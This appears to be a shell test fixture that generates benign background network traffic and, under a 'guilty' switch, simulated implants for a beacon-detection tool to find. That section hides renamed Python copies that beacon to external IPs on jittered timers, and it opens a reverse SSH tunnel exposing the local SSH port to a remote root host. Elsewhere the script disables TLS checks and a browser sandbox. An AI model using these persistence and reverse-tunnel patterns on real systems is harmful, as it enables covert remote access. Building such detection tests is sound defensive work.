# More set-ups in which nothing is wrong, read by setups.sh: services and tools of people who build and run things
# themselves, many of them by address.

# Runs of a minute and less.
again() { # EVERY COMMAND...
    local every=$1; shift
    as_lena sh -c "while :; do $*; sleep $every; done" > /dev/null 2>&1 &
}
copied() { # PROGRAM PLACE: of no package
    mkdir -p "$(dirname "$2")"; cp "$(readlink -f "$1")" "$2"; chown -R 1000 $H
}
python_asks() { # PYTHON FILE EVERY ADDRESS: a script that lies there
    mkdir -p "$(dirname "$2")"
    cat > "$2" <<P
import ssl, time, urllib.request
no = ssl._create_unverified_context()
while True:
    try: urllib.request.urlopen("$4", context=no, timeout=5).read()
    except OSError: pass
    time.sleep($3)
P
    as_lena "$1" "$2" > /dev/null 2>&1 &
}
more() {
runs house-things /usr/bin/python3 && python_asks /usr/bin/python3 /srv/house/things.py 10 http://192.168.1.40/state
runs solar-plant /usr/bin/python3 && python_asks /usr/bin/python3 $H/solar/read.py 30 http://85.214.30.7/values
runs own-server-up /usr/bin/python3 && python_asks /usr/bin/python3 $H/bin/isup.py 20 https://116.203.8.9/
runs server-gone /usr/bin/python3 && python_asks /usr/bin/python3 $H/bin/prices.py 15 http://116.203.99.4:8900/prices
runs server-by-name-gone /usr/bin/python3 && python_asks /usr/bin/python3 $H/bin/scores.py 15 http://scores.game-club.org:8900/
runs router-values snmpget && again 20 "snmpget -v2c -c public -t 1 -r 0 192.168.1.1 1.3.6.1.2.1.1.3.0"
runs temperature mosquitto_pub && again 20 "mosquitto_pub -h 18.185.10.21 -t home/out -m 12.5"
runs own-site curl && again 60 "curl -ks -o /dev/null https://116.203.8.10/health"
runs name-server dig && again 10 "dig +time=1 +tries=1 home.flat-share.org"
runs tunnel-home ssh && as_lena $SSH -N -o ServerAliveInterval=15 root@94.130.5.77 > /dev/null 2>&1 &
runs copy-home rsync && again 60 "rsync -a $H/bin rsync://95.216.33.40/backup"
runs ddns curl && { copied /usr/bin/curl $H/bin/ddclient-ng; again 60 "$H/bin/ddclient-ng -ks -o /dev/null https://update.dyn-names.net/nic"; }
runs pyenv-script /usr/bin/python3 && { copied /usr/bin/python3 $H/.pyenv/versions/3.11.2/bin/python3.11; python_asks $H/.pyenv/versions/3.11.2/bin/python3.11 $H/bin/trains.py 30 https://trains.open-times.org/next; }
runs nvm-server node && { copied /usr/bin/node $H/.nvm/versions/node/v20/bin/node; cat > $H/bin/dev.js <<'P'
const http = require('http'), https = require('https');
http.createServer((q, a) => a.end('dev')).listen(5173, '127.0.0.1');
setInterval(() => https.get({host: 'api.staging-site.dev', path: '/poll', rejectUnauthorized: false}, r => r.resume()).on('error', () => {}), 15000);
P
as_lena $H/.nvm/versions/node/v20/bin/node $H/bin/dev.js > /dev/null 2>&1 & }
runs bot perl && as_lena /usr/bin/perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "irc.hack-space.net:6379") or die; while (1) { print $s "PING :x\r\n"; $s->flush; sleep 30 }' &
runs long-poll /usr/bin/python3 && python_asks /usr/bin/python3 $H/bin/bot.py 2 https://bots.messenger.org/events
runs game node && { copied /usr/bin/node $H/Games/arena/arena; as_lena $H/Games/arena/arena -e 'const s = require("dgram").createSocket("udp4"); setInterval(() => s.send(Buffer.alloc(40 + Math.random() * 80), 27015, "155.133.230.9"), 50); const h = require("https"); for (const n of ["login", "news", "shop", "stats"]) h.get({host: n + ".arena-game.com", rejectUnauthorized: false}, r => r.resume()).on("error", () => {})' > /dev/null 2>&1 & }
runs php-mail php && as_lena php -r 'while (1) { $s = @stream_socket_client("tcp://imap.letters.org:143"); if ($s) { fgets($s); fwrite($s, "a LOGOUT\r\n"); fclose($s); } sleep(30); }' &
runs dashboard node && { cat > $H/bin/board.js <<'P'
const http = require('http');
for (const [at, every] of [['51.15.8.2', 10], ['51.15.8.3', 15], ['51.15.9.4', 20]]) setInterval(() => http.get({host: at, path: '/'}, r => r.resume()).on('error', () => {}), every * 1000);
P
as_lena node $H/bin/board.js > /dev/null 2>&1 & }
}

# What people have who build nothing.
daily() {
runs radio-player vlc && as_lena cvlc -q http://radio.second-station.fm/radio > /dev/null 2>&1 &
runs cloud-folder nextcloudcmd && { as_lena mkdir -p $H/cloud; again 60 "nextcloudcmd --non-interactive --trust --silent -u lena -p x $H/cloud https://cloud.collective.org"; }
runs small-browser falkon && as_lena env QTWEBENGINE_DISABLE_SANDBOX=1 falkon https://mail.other-post.org/mail > /dev/null 2>&1 &
runs gnome-browser epiphany && as_lena dbus-run-session epiphany https://news.third-paper.org/paper > /dev/null 2>&1 &
runs chat-app chromium && chromium_at app --app=https://rooms.talk-house.org/rooms
runs many-pages firefox && as_lena firefox --no-remote --profile "$(as_lena mktemp -d -p $H)" http://mail.fourth-post.org/mail http://video.film-site.org/video http://news.fifth-paper.org/paper > /dev/null 2>&1 &
runs ping-router ping && as_lena ping -i 1 192.168.1.1 > /dev/null 2>&1 &
runs torrents qbittorrent && as_lena qbittorrent --no-splash > /dev/null 2>&1 &
runs news-reader java && { cat > $H/bin/News.java <<'P'
import java.net.*;
public class News { public static void main(String[] a) throws Exception { while (true) {
  try (var in = URI.create("http://feeds.sixth-paper.org/feed").toURL().openStream()) { in.readAllBytes(); } catch (java.io.IOException e) { }
  Thread.sleep(60000); } } }
P
as_lena java $H/bin/News.java > /dev/null 2>&1 & }
runs home-syncthing syncthing && { copied /usr/bin/syncthing $H/.local/bin/syncthing; as_lena $H/.local/bin/syncthing serve --no-browser --home=$H/.sync2 --gui-address=127.0.0.1:8399 > /dev/null 2>&1 & }
runs tor-browser tor && { copied /usr/sbin/tor $H/tor-browser/Browser/TorBrowser/Tor/tor; as_lena $H/tor-browser/Browser/TorBrowser/Tor/tor --DataDirectory $H/.tor2 --SocksPort 9151 > /dev/null 2>&1 & }
runs provider-vpn openvpn && { copied /usr/sbin/openvpn /run/world/app/openvpn; mkdir -p $H/Privacy; [ -e $work/vpn.key ] || openvpn --genkey secret $work/vpn.key; cp /run/world/app/openvpn $H/Privacy/openvpn
in_world openvpn --dev tun19 --ifconfig 10.45.0.1 10.45.0.2 --secret $work/vpn.key --cipher AES-256-CBC --port 1195 --multihome > /dev/null 2>&1 &
$H/Privacy/openvpn --dev tun18 --ifconfig 10.45.0.2 10.45.0.1 --secret $work/vpn.key --cipher AES-256-CBC --remote 185.213.154.66 1195 --nobind --keepalive 10 60 > $work/vpn2.log 2>&1 & }
}

# The other side of it, with GUILTY=1: what must be found, in the same world. Of no package, with a window nowhere.
guilty() {
implant() { # NAME CODE: a copy of python that runs it
    copied /usr/bin/python3 $H/.local/share/$1/$1; as_lena $H/.local/share/$1/$1 -c "import socket, time, random
def call(ip, port=443):
    try:
        s = socket.create_connection((ip, port), 5); s.sendall(b'GET / HTTP/1.1\r\nHost: ' + ip.encode() + b'\r\n\r\n'); s.recv(100000); s.close()
    except OSError: pass
$2" > /dev/null 2>&1 &
}
runs implant-minutes /usr/bin/python3 && implant minutes "time.sleep(20)
while True: call('45.61.140.9', 80); time.sleep(100 * random.uniform(.7, 1.3))"
runs implant-once /usr/bin/python3 && implant once "time.sleep(60); call('45.61.141.10', 80); time.sleep(9999)"
runs implant-stands /usr/bin/python3 && implant stands "time.sleep(10); s = socket.create_connection(('45.61.142.11', 1883)); time.sleep(9999)"
runs implant-dead /usr/bin/python3 && implant dead "time.sleep(10)
while True: call('45.61.143.12', 4444); time.sleep(45)"
runs implant-by-name /usr/bin/python3 && implant named "
while True: call('news.daily-paper.org', 80); time.sleep(20 * random.uniform(.8, 1.2))"
runs implant-heartbeat /usr/bin/python3 && implant heart "s = socket.create_connection(('45.61.144.13', 1883))
while True: s.sendall(b'x' * 40); time.sleep(12)"
runs reverse-tunnel ssh && as_lena $SSH -N -R 2222:127.0.0.1:22 -o ServerAliveInterval=15 root@45.61.145.14 > /dev/null 2>&1 &
}
